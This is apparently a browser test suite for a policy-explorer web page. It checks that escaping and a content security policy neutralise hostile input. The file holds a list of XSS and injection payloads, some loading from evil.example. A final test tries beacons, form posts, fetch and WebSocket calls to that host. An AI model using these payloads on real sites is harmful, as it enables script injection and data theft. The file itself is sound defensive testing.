/** @module-tag slow */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { views } from '../../explorer/state/route.ts';
import { errors, small } from '../commands/roles.ts';
import { type ExplorerFolder, makeFolder, serveFolder } from '../support/explorer.ts';
import { builtPage, shareBrowser, type Visit, writeOfflineFile } from './support.ts';

const { openFile, visit } = shareBrowser();

/** Every text says by `ran` that it was run; every address is that of a server that nobody may ask. */
const texts: readonly string[] = [
  '</script><script>ran=1</script>',
  '</SCRIPT ><script src=//evil.example/x.js></script>',
  '<!--<script>ran=1</script>',
  '-->]]><script>ran=1</script>',
  '<img src=x onerror=ran=1>',
  '"><img src=//evil.example/x.png onerror="ran=1">',
  "' autofocus onfocus='ran=1",
  '<svg/onload=ran=1>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<a href="javascript:ran=1">click</a>',
  'javascript:ran=1',
  '[click](javascript:ran=1) ![x](//evil.example/x.png)',
  '<style>@import "//evil.example/x.css"</style>',
  '</title><base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example/">',
  `{{constructor.constructor("ran=1")()}} \${ran=1}`,
  '\u202egpj.exe\u2066 \u200b\u2028 \u2029',
  '&lt;script&gt;ran=1&lt;/script&gt; &#x3c;img src=x onerror=ran=1&#x3e;',
  '__proto__',
  'constructor',
  '<!--plafond:data--><!--plafond:csp-->',
  "$& $` $' $1",
];

const all = texts.join(' ');
const quoted = JSON.stringify(all);

/** The small policies with a hostile text wherever they take one, and still without an error. */
const titled: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    Object.entries(small).map(([file, text]) => [
      file,
      text
        .replace(/^(title|description|because): .*$/gm, `$1: ${quoted.replaceAll('$', '$$$$')}`)
        .replace(/\b10\b/, '100')
        .replace(/^# .*$/m, `# ${all.replace(/\p{C}|\p{Zl}|\p{Zp}/gu, '').replaceAll('$', '$$$$')}`),
    ]),
  ),
  'policies/tenants/acme/users.yaml': `${small['policies/tenants/acme/users.yaml']}${texts.map((text) => `  - { id: ${JSON.stringify(text)}, userType: Full, roles: [agent] }`).join('\n')}
`,
};

/** The same with hostile names, paths and values, which are errors that quote them. */
const named: Readonly<Record<string, string>> = {
  ...titled,
  ...Object.fromEntries(
    texts.map((text, at) => [
      `policies/roles/${text.replace(/[/\0]/g, '_').slice(0, 60)}.yaml`,
      `kind: Role\nname: ${JSON.stringify(text)}\n${JSON.stringify(text)}: ${at}\nuserType: ${JSON.stringify(text)}\n`,
    ]),
  ),
};

/** The places at which a page is opened: every view, with hostile choices in the address. */
const places: readonly string[] = views.flatMap(([view]) => [
  `/${view}`,
  `/${view}?tenant=acme&role=agent&user=${encodeURIComponent(texts[0] ?? '')}`,
  `/${view}?tenant=acme&user=${encodeURIComponent(texts[0] ?? '')}&task=copy&roles=-&seats=-`,
  `/${view}?tenant=acme&role=agent&task=copy&${['type', 'seats', 'roles'].map((name) => `${name}=${encodeURIComponent(all)}`).join('&')}`,
  `/${view}?${['tenant', 'role', 'cell', 'user', 'who', 'text', 'type', 'seats', 'roles', 'task'].map((name) => `${name}=${encodeURIComponent(all)}`).join('&')}`,
]);

async function expectQuiet({ page, requests, violations }: Visit, where: string) {
  await page.waitForSelector('#page :text-matches("\\\\S")');
  const ran = await page.evaluate(() => 'ran' in window || 'ran' in Object.prototype);
  const made = await page.evaluate(
    () =>
      document.querySelectorAll(
        'iframe, base, img, object, embed, [onerror], [onload], [href^="javascript:" i]',
      ).length,
  );
  expect({ where, ran, made, requests, violations }).toEqual({
    where,
    ran: false,
    made: 0,
    requests: [],
    violations: [],
  });
  expect(await page.title()).not.toContain('ran=1');
}

/** Goes to another place of the page that is open. */
async function go(opened: Visit, at: string) {
  await opened.page.evaluate((hash) => {
    location.hash = hash;
  }, at);
  await expectQuiet(opened, at);
}

test('the corpus is policies without an error, and the same with many', () => {
  expect(errors(titled)).toEqual([]);
  expect(errors(named).length).toBeGreaterThan(texts.length);
});

describe.each([
  ['in titles, descriptions, remarks and users', titled],
  ['in names, paths and values', named],
])('hostile texts %s', (_, files) => {
  let folder: ExplorerFolder;
  let file: string;
  beforeAll(async () => {
    folder = makeFolder(files);
    file = await writeOfflineFile(folder.at('policies'));
  });
  afterAll(() => folder.remove());

  test('do nothing in the file, in no view', async () => {
    // The texts are there: a corpus that was lost would do nothing either.
    const data = /<script id="plafond-data" type="application\/json">(.*?)<\/script>/.exec(
      readFileSync(file, 'utf8'),
    );
    expect(JSON.parse(data?.[1] ?? '{}').tree.files['roles/agent.yaml']).toContain('onerror=ran=1');
    const first = await openFile(file, { at: places[4] ?? '' });
    await expectQuiet(first, places[4] ?? '');
    for (const at of places) await go(first, at);
  });

  test('do nothing where they are served', async () => {
    const served = await serveFolder(folder, [], { explorerPage: builtPage });
    const opened = await visit(served.address);
    await opened.page.waitForSelector('#page');
    const foreign = () =>
      opened.requests.filter((one) => !one.startsWith(`http://127.0.0.1:${served.port}/api/`));
    for (const at of places) await go({ ...opened, requests: foreign() }, at);
    await served.end();
  });
});

test('the file may run its one script and nothing that is added to it', async () => {
  const folder = makeFolder(small);
  const file = await writeOfflineFile(folder.at('policies'));
  const { page, requests, violations } = await openFile(file);
  await page.waitForSelector('#page :text-matches("\\\\S")');
  const isFormRefused = page.waitForEvent('console', (message) => message.text().includes('form-action'));
  const found = await page.evaluate(async () => {
    const add = (name: string, more: object) =>
      document.body.append(Object.assign(document.createElement(name), more));
    add('script', { textContent: 'window.ran = 1' });
    add('script', { src: 'https://evil.example/x.js' });
    add('style', { textContent: 'body { display: none !important }' });
    add('img', { src: 'https://evil.example/x.png' });
    add('iframe', { src: 'https://evil.example/' });
    add('base', { href: 'https://evil.example/' });
    document.body.insertAdjacentHTML('beforeend', '<button onclick="window.ran = 1">x</button>');
    (document.body.lastElementChild as HTMLElement).click();
    const form = Object.assign(document.createElement('form'), {
      action: 'https://evil.example/',
      method: 'POST',
    });
    document.body.append(form);
    form.submit();
    navigator.sendBeacon('https://evil.example/', 'x');
    const connected = await Promise.allSettled([
      fetch('https://evil.example/'),
      new Promise((resolve, reject) => {
        const socket = new WebSocket('wss://evil.example/');
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
      new Promise((resolve, reject) => {
        const events = new EventSource('https://evil.example/');
        events.onopen = resolve;
        events.onerror = reject;
      }),
      new Promise((_, reject) => new Worker('data:text/javascript,1').addEventListener('error', reject)),
    ]);
    return {
      ran: 'ran' in window,
      connected: connected.filter(({ status }) => status === 'fulfilled').length,
      base: document.baseURI === location.href,
      isShown: getComputedStyle(document.body).display !== 'none',
    };
  });
  expect(found).toEqual({ ran: false, connected: 0, base: true, isShown: true });
  await isFormRefused;
  expect(requests).toEqual([]);
  expect(new Set(violations)).toEqual(
    new Set(['script-src', 'style-src', 'img-src', 'default-src', 'base-uri', 'form-action', 'connect-src']),
  );
  folder.remove();
});
